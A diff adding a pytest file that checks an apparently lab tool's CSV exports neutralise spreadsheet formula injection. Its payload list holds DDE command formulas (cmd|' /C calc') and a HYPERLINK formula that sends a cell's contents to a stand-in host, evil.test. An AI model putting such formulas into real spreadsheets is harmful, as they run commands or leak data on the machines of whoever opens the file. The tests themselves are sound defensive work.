@@ -1,0 +1,89 @@
+"""Spreadsheet formulas: what leaves the lab as a table for spreadsheets is text, wherever it came from."""
+
+import csv
+import io
+
+import pytest
+from click.testing import CliRunner
+from colours import evaluated
+
+from lab import exports, scoreboard
+from lab.cli import cli
+
+PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u3000@SUM(1)",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "a;=1+1",
+    "a\t=1+1",
+    'a";=1+1',
+    '",=1+1,"',
+    "a\n=1+1",
+    "a\r\n=1+1",
+    "\u2028=1+1",
+    '=HYPERLINK("http://evil.test?x="&A1,"click")',
+    "%0A-3+3+cmd|' /C calc'!D2",
+]
+STARTS = tuple("=+-@＝＋－＠")
+
+
+def sheets(text: str) -> list[list[str]]:
+    """The cells of a csv file as spreadsheets of several countries read them: each takes another mark for the separator,
+    and none keeps blanks before a formula."""
+    return [
+        [cell.strip() for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark) for cell in row]
+        for mark in ",;\t"
+    ]
+
+
+@pytest.fixture(scope="module")
+def compared(trained_home, tmp_path_factory) -> list[dict]:
+    return scoreboard.compare(evaluated(trained_home, ["base", "tiny-1"]))[0]
+
+
+@pytest.mark.faults
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("field", ["subject", "decoding"])
+def test_no_cell_of_a_table_begins_a_formula(compared, payload, field):
+    """Seen to fail with `harmless` returning its cell, and with `INNER_FORMULA` not looked for: a spreadsheet that separates
+    by semicolons found a formula behind one."""
+    objects = [dict(x) for x in compared]
+    objects[0][field] = payload
+    assert any(payload.strip()[-2:] in cell for cell in sheets(exports.as_csv(objects, []))[0])
+    for cells in sheets(exports.as_csv(objects, [])):
+        assert not [cell for cell in cells if cell.startswith(STARTS)]
+
+
+@pytest.mark.faults
+def test_a_table_says_what_it_said_before(compared):
+    """Numbers, intervals and dashes are not touched."""
+    headers, rows = exports.table(compared)
+    read = list(csv.reader(io.StringIO(exports.as_csv(compared, []), newline="")))
+    assert read == [headers, *rows]
+
+
+@pytest.mark.faults
+def test_the_command_line_prints_the_same_table(trained_home):
+    said = CliRunner().invoke(cli, ["compare", "base", "tiny-1", "--csv", "--home", str(trained_home.path)])
+    assert said.exit_code == 0, said.output
+    assert said.stdout.startswith("subject,")
+
+
+def test_all_tables_of_spreadsheets_are_made_in_one_place():
+    """A new writer of csv files must neutralise, too; the other one here writes a cell of the label editor."""
+    from test_layers import FILES, name_of
+
+    writers = [name_of(path) for path in FILES if "csv.writer" in path.read_text() or "to_csv" in path.read_text()]
+    assert sorted(writers) == ["exports.py", "ui/label_table.py"]
